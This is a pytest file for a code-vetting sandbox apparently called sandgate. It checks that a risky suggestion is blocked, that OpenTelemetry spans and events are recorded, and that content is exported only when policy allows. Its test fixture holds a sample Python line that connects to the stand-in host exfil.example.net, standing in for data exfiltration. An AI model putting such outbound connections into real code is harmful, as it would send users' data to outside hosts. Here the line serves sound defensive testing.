"""The real pipeline, vetting a risky suggestion in bubblewrap, reports its spans and events to a
loopback OTLP receiver, and by default no code leaves."""

from __future__ import annotations

from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.suggestion import Suggestion
from sandgate.telemetry import configure
from sandgate.telemetry import names as n

SEED = "zebra_canary_8731"
CODE = f"import socket\n# {SEED}\nsocket.create_connection(('exfil.example.net', 443), timeout=1)\n"


def _vet(tmp_path, monkeypatch, export_content: bool):
    monkeypatch.setenv("SANDGATE_MANAGED_POLICY", str(tmp_path / "none.toml"))
    (tmp_path / "none.toml").write_text("version = 1\n")
    (tmp_path / ".sandgate").mkdir()
    (tmp_path / ".sandgate" / "policy.toml").write_text(
        f"version = 1\n[telemetry]\nexport_content = {'true' if export_content else 'false'}\n"
    )
    tel = configure()
    vetter = Vetter(load_effective(tmp_path), backend="bwrap", telemetry=tel)
    try:
        result = vetter.vet(Suggestion(CODE, path="s.py"), request_id="req-1")
    finally:
        vetter.close()
    assert tel.force_flush()
    tel.shutdown()
    return result


def test_vet_spans_and_events_without_content(otel_env, tmp_path, monkeypatch):
    result = _vet(tmp_path, monkeypatch, export_content=False)
    got = otel_env
    assert str(result.verdict) == "block"
    vet = got.span(n.SPAN_VET)
    for name in ("secrets", "policy", "bandit"):
        assert got.span(f"{n.SPAN_CHECK} {name}").parent_span_id == vet.span_id
    run = got.span(n.SPAN_SANDBOX)
    assert run.parent_span_id == vet.span_id
    assert got.attrs(run.attributes)[n.SANDBOX_BACKEND] == "bwrap"

    decision = got.attrs(got.event(n.EVENT_DECISION).attributes)
    assert decision[n.DECISION] == "block"
    assert decision[n.CONTENT_SHA256] == result.content_sha256
    assert decision[n.POLICY_DIGEST] == result.policy_digest
    assert "network-denied" in decision[n.DECISION_RULES]
    assert decision[n.LANGUAGE] == "python"
    assert {got.attrs(e.attributes)[n.LANGUAGE] for e in got.events(n.EVENT_FINDING)} == {"python"}
    network = [got.attrs(e.attributes) for e in got.events(n.EVENT_NETWORK_DECISION)]
    assert {(e[n.NETWORK_HOST], e[n.NETWORK_ALLOWED]) for e in network} == {("exfil.example.net", False)}
    assert got.attrs(got.event(n.EVENT_SANDBOX_OUTCOME).attributes)[n.SANDBOX_OUTCOME] == "completed"
    assert {got.attrs(e.attributes)[n.FINDING_RULE] for e in got.events(n.EVENT_FINDING)} >= {"network.denied"}
    assert SEED.encode() not in got.raw_bytes()


def test_content_is_exported_only_when_the_policy_says_so(otel_env, tmp_path, monkeypatch):
    _vet(tmp_path, monkeypatch, export_content=True)
    assert SEED.encode() in otel_env.raw_bytes()
